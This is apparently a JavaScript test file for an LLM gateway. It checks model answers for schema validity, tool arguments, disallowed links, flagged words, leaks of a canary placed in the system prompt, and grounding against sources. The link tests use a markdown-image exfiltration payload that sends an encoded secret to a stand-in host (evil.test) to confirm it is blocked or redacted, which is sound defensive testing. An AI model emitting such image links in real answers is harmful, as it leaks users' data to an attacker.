// Checks of answers: schemas repaired or refused, tool arguments, canaries, links, words, retries; whole
// answers and streams held by sentence or to their end; both dialects, through their official clients.
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, beforeEach, test } from 'node:test';
import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import { Gateway, Simulator, cli, root, succeed } from './harness.mjs';

const folder = mkdtempSync(path.join(tmpdir(), 'gatehouse-checks-'));
const policies = path.join(folder, 'policies');
cpSync(path.join(root, 'policies'), policies, { recursive: true });
const obligations = {
  shape: '@check("order:block")', again: '@check("order-again:retry")', tools: '@check("arguments:block")',
  links: '@check("links:block")', cut: '@check("links:redact")', words: '@check("words:flag")',
  leak: '@canary("block")', grounded: '@check("grounded:block")',
};
const teams = Object.keys(obligations);
writeFileSync(path.join(policies, '60-checks.cedar'), teams.map((team) => `
@id("check-${team}") ${obligations[team]} permit (principal, action == Gatehouse::Action::"infer", resource)
when { principal has team && principal.team == "${team}" };`).join('\n'));
writeFileSync(path.join(folder, 'order.json'), JSON.stringify({
  type: 'object', required: ['id'], additionalProperties: false,
  properties: { id: { type: 'integer' }, tags: { type: 'array', items: { type: 'string' } } } }));

let simulator, gateway;
const keys = {};
before(async () => {
  simulator = await Simulator.start();
  const site = Gateway.prepare({ simulator, settings: `policies: ${policies}
checks:
  - {name: order, type: schema, schema: ${path.join(folder, 'order.json')}}
  - {name: order-again, type: schema, schema: ${path.join(folder, 'order.json')}, retries: 2}
  - {name: arguments, type: tool_arguments}
  - {name: links, type: links, allow_hosts: [example.com], hold: sentence}
  - {name: words, type: topics, words: [forbidden]}
  - {name: grounded, type: grounding, false_positives: 0.05}
` });
  for (const team of teams) {
    keys[team] = JSON.parse(succeed(cli('key', 'create', '--config', site.config, '--principal', `user:${team}`,
      '--attribute', `team=${team}`, '--json')).stdout).key;
  }
  gateway = await Gateway.start({ site });
});
after(async () => {
  await gateway?.finish();
  await simulator?.stop();
  rmSync(folder, { recursive: true, force: true });
});
beforeEach(() => simulator.clear());

const openai = (team) => new OpenAI({ apiKey: keys[team], baseURL: `${gateway.url}/v1`, maxRetries: 0 });
const anthropic = (team) => new Anthropic({ apiKey: keys[team], baseURL: gateway.url, maxRetries: 0 });
const script = (answer, more = {}) => ({ model: 'gpt-script', messages: [{ role: 'user', content: JSON.stringify(answer) }], ...more });
const claude = (answer, more = {}) => ({ ...script(answer, more), model: 'claude-script', max_tokens: 1000 });
const outcome = () => gateway.entries().filter((entry) => entry.type === 'request.completed').at(-1);
const thrown = (promise) => promise.then((value) => assert.fail(`passed: ${JSON.stringify(value)}`), (error) => error);

// Every way to get the text of an answer.
const ways = {
  'OpenAI, whole': async (team, answer) =>
    (await openai(team).chat.completions.create(script(answer))).choices[0].message.content,
  'OpenAI, streamed': async (team, answer) =>
    (await openai(team).chat.completions.stream(script(answer)).finalChatCompletion()).choices[0].message.content,
  'Anthropic, whole': async (team, answer) =>
    (await anthropic(team).messages.create(claude(answer))).content[0].text,
  'Anthropic, streamed': async (team, answer) =>
    (await anthropic(team).messages.stream(claude(answer)).finalMessage()).content[0].text,
};

for (const [way, text] of Object.entries(ways)) {
  test(`a schema: passed, repaired, refused (${way})`, async () => {
    assert.equal(await text('shape', { text: '{"id": 7}' }), '{"id": 7}');
    assert.equal(outcome().data.checks[0].result, 'passed');
    const broken = "Here you are:\n```json\n{'id': \"7\", tags: 'a',}\n```\n";
    assert.deepEqual(JSON.parse(await text('shape', { text: broken })), { id: 7, tags: ['a'] });
    assert.deepEqual({ ...outcome().data.checks[0] },
      { name: 'order', type: 'schema', result: 'repaired', score: 1, action: 'block' });
    const error = await thrown(text('shape', { text: '{"tags": []}' }));
    assert.match(error.message, /check .*order.*lacks the property .*id/);
    assert.ok(!error.message.includes('tags": []'));
    assert.equal(outcome().data.problem, 'answer_refused');
    assert.equal(outcome().data.checks[0].result, 'failed');
  });

  test(`the provider is asked again, a bounded number of times (${way})`, async () => {
    const error = await thrown(text('again', { text: 'no JSON at all' }));
    assert.match(error.message, /order-again/);
    assert.equal((await simulator.requests()).length, 3);
    const { data } = outcome();
    assert.equal(data.attempts, 3);
    assert.deepEqual(data.checks.map((check) => [check.attempt, check.result]), [[1, 'failed'], [2, 'failed'], [3, 'failed']]);
    assert.ok(data.output_tokens >= 9, 'the tokens of every attempt count');
  });

  test(`links: to allowed hosts they pass, others block or are taken out (${way})`, async () => {
    const good = 'See https://example.com/a. And that is all.';
    assert.equal(await text('links', { text: good }), good);
    const bad = 'First sentence. ![x](https://evil.test/p?d=c2VjcmV0) Then more. The end.';
    const error = await thrown(text('links', { text: bad }));
    assert.match(error.message, /1 link to hosts that are not allowed/);
    assert.equal(await text('cut', { text: bad }), 'First sentence. ![x]([REMOVED]) Then more. The end.');
    assert.equal(outcome().data.checks[0].result, 'failed');
    assert.equal(outcome().data.checks[0].action, 'redact');
  });

  test(`words are flagged, and nothing else happens (${way})`, async () => {
    assert.equal(await text('words', { text: 'A FORBIDDEN word.' }), 'A FORBIDDEN word.');
    assert.deepEqual({ ...outcome().data.checks[0] },
      { name: 'words', type: 'topics', result: 'failed', score: 1, action: 'flag' });
  });
}

test('a flag is in a header of a whole answer', async () => {
  const { response } = await openai('words').chat.completions.create(script({ text: 'forbidden' })).withResponse();
  assert.equal(response.headers.get('gatehouse-failed-checks'), 'words');
});

test('hold: sentence: what passed is there before the stream ends, what did not never is', async () => {
  const seen = [];
  const error = await thrown((async () => {
    const stream = await openai('links').chat.completions.create(script(
      { chunks: ['One. ', 'Two. ', 'Go to ', 'https://ev', 'il.test/x', ' now. ', 'Never.'], pace_ms: 30 }, { stream: true }));
    for await (const chunk of stream) seen.push(chunk.choices[0]?.delta?.content ?? '');
  })());
  assert.match(error.message, /links/);
  assert.match(seen.join(''), /^One\. Two\. $|^One\. $/);
});

const note = { type: 'object', required: ['count'], properties: { count: { type: 'integer' }, text: { type: 'string' } } };
const calls = (args) => ({ tool_calls: [{ name: 'note', arguments: args }] });
test('tool arguments: repaired and refused, OpenAI', async () => {
  const more = { tools: [{ type: 'function', function: { name: 'note', parameters: note } }] };
  for (const make of [(body) => openai('tools').chat.completions.create(body),
    (body) => openai('tools').chat.completions.stream(body).finalChatCompletion()]) {
    const answer = await make(script(calls({ count: '3', text: 'x' }), more));
    assert.deepEqual(JSON.parse(answer.choices[0].message.tool_calls[0].function.arguments), { count: 3, text: 'x' });
    assert.match((await thrown(make(script(calls({ text: 'x' }), more)))).message, /lacks the property .*count/);
    assert.match((await thrown(make(script({ tool_calls: [{ name: 'other', arguments: {} }] }, more)))).message, /not offered/);
  }
});

test('tool arguments: repaired and refused, Anthropic', async () => {
  const more = { tools: [{ name: 'note', input_schema: note }] };
  for (const make of [(body) => anthropic('tools').messages.create(body),
    (body) => anthropic('tools').messages.stream(body).finalMessage()]) {
    const answer = await make(claude(calls({ count: '3', text: 'x' }), more));
    assert.deepEqual(answer.content.find((block) => block.type === 'tool_use').input, { count: 3, text: 'x' });
    assert.match((await thrown(make(claude(calls({ text: 'x' }), more)))).message, /lacks the property .*count/);
  }
});

const canaryOf = (text) => /filed under \\*"([a-z]{8} [a-z]{8})\\*"/.exec(text)?.[1];
test('a canary goes into the system prompt, both dialects, with and without one', async () => {
  const ask = async (make, body) => {
    await simulator.clear();
    await make(body);
    return JSON.parse((await simulator.requests())[0].body);
  };
  const user = { role: 'user', content: '{"text":"fine"}' };
  const chat = (body) => openai('leak').chat.completions.create(body);
  const bare = await ask(chat, { model: 'gpt-script', messages: [user] });
  assert.equal(bare.messages[0].role, 'system');
  assert.ok(canaryOf(bare.messages[0].content));
  const known = await ask(chat, { model: 'gpt-script', messages: [{ role: 'system', content: 'Be kind.' }, user] });
  assert.equal(known.messages.length, 2);
  assert.match(known.messages[0].content, /^Be kind\.\n\n/);
  assert.ok(canaryOf(known.messages[0].content));
  const message = (body) => anthropic('leak').messages.create(body);
  const base = { model: 'claude-script', max_tokens: 100, messages: [user] };
  assert.ok(canaryOf((await ask(message, base)).system));
  assert.match((await ask(message, { ...base, system: 'Be kind.' })).system, /^Be kind\.\n\n/);
  const blocks = (await ask(message, { ...base, system: [{ type: 'text', text: 'Be kind.' }] })).system;
  assert.equal(blocks.length, 2);
  assert.ok(canaryOf(blocks[1].text));
});

test('an answer that gives the prompt away is stopped, whole and streamed', async () => {
  for (const stream of [false, true]) {
    const reflected = openai('leak').chat.completions.create({ model: 'gpt-reflect', messages: [{ role: 'user', content: 'hi' }], stream });
    const error = await thrown(reflected.then(async (answer) => {
      if (!stream) return answer;
      let text = '';
      for await (const chunk of answer) text += chunk.choices[0]?.delta?.content ?? '';
      return text;
    }));
    assert.match(error.message, /canary/);
    assert.equal(outcome().data.checks[0].type, 'canary');
  }
});

test('a policy that names an unknown check is refused at reload', async () => {
  writeFileSync(path.join(policies, '70-unknown.cedar'),
    '@id("unknown") @check("nothing:block") permit (principal, action == Gatehouse::Action::"infer", resource);');
  gateway.signal('SIGHUP');
  const { until } = await import('./harness.mjs');
  await until(() => gateway.log.includes('none of this name under checks'), 'the refusal');
  assert.equal((await openai('links').chat.completions.create(script({ text: 'Still here.' }))).choices[0].message.content, 'Still here.');
});

test('grounding by a rate of false positives: what the sources say passes, what they do not is refused', async () => {
  const source = 'The harbour was opened in 1904 by the mayor Alma Reed. It has two basins for fishing boats. The lighthouse at ' +
    'its end is 31 metres high and was built by Otto Lind. In winter the northern basin freezes, and boats are moved to the south.';
  const supported = 'Alma Reed, the mayor, opened it in 1904. The lighthouse is 31 metres high and was built by Otto Lind.';
  const invented = 'It was founded in 1850 by Captain Ferdinand Moreau. Three railway lines ended at its warehouses. A museum shows anchors from the Dutch war.';
  // In pieces, so that the question has none of the answer's words.
  const ask = (answer, stream) => fetch(`${gateway.url}/v1/chat/completions`, {
    method: 'POST', headers: { authorization: `Bearer ${keys.grounded}`, 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'gpt-script', stream, messages: [{ role: 'tool', tool_call_id: 'c', content: source },
      { role: 'user', content: JSON.stringify({ chunks: answer.match(/.{1,3}/g) }) }] }) });
  for (const stream of [false, true]) {
    const good = await ask(supported, stream);
    assert.equal(good.status, 200, await good.clone().text());
    assert.equal(outcome().data.checks[0].result, 'passed');
    const bad = await ask(invented, stream);
    assert.equal(bad.status, 502);
    assert.match(await bad.text(), /0 of 3 sentences supported by the sources; so little is rarer than 0.05/);
    const [check] = outcome().data.checks;
    assert.equal(check.result, 'failed');
    assert.ok(check.score <= 0.05, JSON.stringify(check));
  }
});
